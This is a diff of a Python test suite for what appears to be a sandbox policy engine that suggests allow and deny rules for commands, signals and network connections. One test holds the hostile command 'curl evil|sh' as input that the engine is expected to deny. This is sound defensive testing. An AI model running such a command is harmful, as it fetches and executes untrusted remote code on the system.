@@ -101,7 +101,7 @@ def exec_event(programs: tuple[Program, ...], decision: Decision, **more: Any) -
 
 
 def ran(engine: Engine, *argv: str, path: str = "", **more: Any) -> Event:
-    """As a run under that policy would have recorded it."""
+    """Return the event that a run under the policy would record."""
     name = argv[0].rpartition("/")[2]
     program = Program(path=path or f"/usr/bin/{name}", name=name, argv=argv)
     request = CommandRequest((program,), depth=1, cwd="/project/app")
@@ -144,9 +144,7 @@ def agent() -> Engine:
         (["sudo", "-i"], '- {name: allow-sudo-i, commands: [sudo], args: ["-i"], decision: allow}'),
     ],
 )
-def test_the_line_is_one_that_a_person_would_write(
-    agent: Engine, argv: list[str], line: str
-) -> None:
+def test_a_command_rule(agent: Engine, argv: list[str], line: str) -> None:
     assert suggested(ran(agent, *argv), engine=agent).line == line
 
 
@@ -176,7 +174,7 @@ def test_an_audited_command_can_be_denied(agent: Engine) -> None:
     )
 
 
-def test_a_signal_is_allowed_for_its_kind_of_target_of_that_name(agent: Engine) -> None:
+def test_a_signal_rule_names_the_type_and_name_of_the_target(agent: Engine) -> None:
     asked = SignalRequest(15, with_implied([TargetType.USER]), "node", 7)
     found = suggested(sent(agent, asked), engine=agent)
     assert found == Suggestion(
@@ -209,9 +207,7 @@ def test_a_signal_is_allowed_for_its_kind_of_target_of_that_name(agent: Engine) 
         ({"cut": {"argv": {}}}, "its arguments are cut in the log"),
     ],
 )
-def test_what_no_rule_can_change_says_why(
-    agent: Engine, more: dict[str, Any], why_not: str
-) -> None:
+def test_why_there_is_no_rule(agent: Engine, more: dict[str, Any], why_not: str) -> None:
     found = suggested(ran(agent, "git", "push", "--force", **more), engine=agent)
     assert (found.line, found.name) == ("", "")
     assert found.why_not.startswith(why_not)
@@ -270,7 +266,7 @@ PIP = Program("/usr/bin/python3.11", "pip", ("pip", "install", "x"), counts_by_n
         ((PYTHON, PIP), '["/project/app/.venv/bin/python3", "/usr/bin/python3.11"]'),
     ],
 )
-def test_one_found_before_the_systems_is_chosen_by_its_path_and_its_links(
+def test_a_shadowing_program_is_chosen_by_its_path_and_its_links(
     programs: tuple[Program, ...], commands: str
 ) -> None:
     request = CommandRequest(programs, depth=1, cwd="/project/app")
@@ -284,7 +280,7 @@ def test_one_found_before_the_systems_is_chosen_by_its_path_and_its_links(
         assert (after.action.value, after.shadows) == ("allow", "")
 
 
-def test_where_no_rule_can_name_what_was_found_the_way_out_is_said(agent: Engine) -> None:
+def test_a_shadowing_program_that_no_rule_can_name(agent: Engine) -> None:
     path = "/home/u/[1]/pip"
     program = SHIM._replace(path=path, found=path)
     request = CommandRequest((program,), depth=1, cwd="/project/app")
@@ -338,7 +334,7 @@ def test_strange_words_are_allowed_as_they_are_and_nothing_else(argv: list[str])
     ("word", "why_not"),
     [("x" * 5_000, "too long for a rule"), ("caf\udce9", "not valid text")],
 )
-def test_arguments_that_no_rule_can_contain_have_none(word: str, why_not: str) -> None:
+def test_there_is_no_rule_for_invalid_arguments(word: str, why_not: str) -> None:
     engine = Engine(base(DENIES_ALL))
     found = suggested(ran(engine, "bash", "-c", word), engine=engine)
     assert (found.line, why_not in found.why_not) == ("", True)
@@ -353,7 +349,7 @@ def test_other_events_have_none(agent: Engine) -> None:
     requests,
     st.sampled_from(["allow", "deny"]),
 )
-def test_the_rules_make_the_decision_come_out_so(
+def test_the_rules_change_the_decision(
     rules: list[str], request: CommandRequest, decision: str
 ) -> None:
     text = policy(rules, [])
@@ -396,6 +392,21 @@ def test_a_script_opens_no_other_way_to_its_shell() -> None:
     for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"], []):
         asked = ran(engine, "sh", *others, path="/usr/bin/sh")
         assert decided(after, asked).action.value == "deny", others
+
+
+def test_each_rule_overrides_only_what_denies_its_program() -> None:
+    text = (
+        "version: 1\nname: x\ndefaults: {command: audit}\ncommand_rules:\n"
+        "- {name: no-a, commands: [a.sh], decision: deny}\n"
+        "- {name: no-sh, commands: [sh], decision: deny}\n"
+    )
+    engine = Engine(base(text))
+    script = Program("/project/a.sh", "a.sh", ("./a.sh",))
+    shell = Program("/usr/bin/dash", "sh", ("/bin/sh", "./a.sh"), system_file=True)
+    request = CommandRequest((script, shell), depth=1, cwd="/project")
+    event = exec_event(request.programs, engine.decide_command(request))
+    lines = suggested(event, engine=engine).line.split("\n")
+    assert [line.partition("overrides: ")[2] for line in lines] == ["[no-a]}", "[no-sh]}"]
 
 
 ARGUMENTS = st.lists(
@@ -472,7 +483,7 @@ def reached(destination: str, protocol: str = "tcp", **more: Any) -> Event:
         ),
     ],
 )
-def test_a_connection_gets_a_rule_that_lets_it_through(event: Event, line: str) -> None:
+def test_a_connection_rule(event: Event, line: str) -> None:
     text = (
         "version: 1\nname: base\ndefaults: {network: deny}\nnetwork_rules:\n"
         "  - {name: keep, destinations: ['*', 'unix:*'], decision: deny}\n"
@@ -483,7 +494,7 @@ def test_a_connection_gets_a_rule_that_lets_it_through(event: Event, line: str) 
     assert decided(with_line(suggestion, text), event).action is Action.ALLOW
 
 
-def test_what_no_network_rule_can_be_about_says_so(agent: Engine) -> None:
+def test_no_network_rule_for_a_built_in_denial(agent: Engine) -> None:
     payload = {"destination": "io_uring", "rule_name": "builtin:network", "decision": "deny"}
     suggestion = Suggester(agent).rule_for([Event(1, 0, "connection_denied", 9, payload, "")])
     assert suggestion is not None
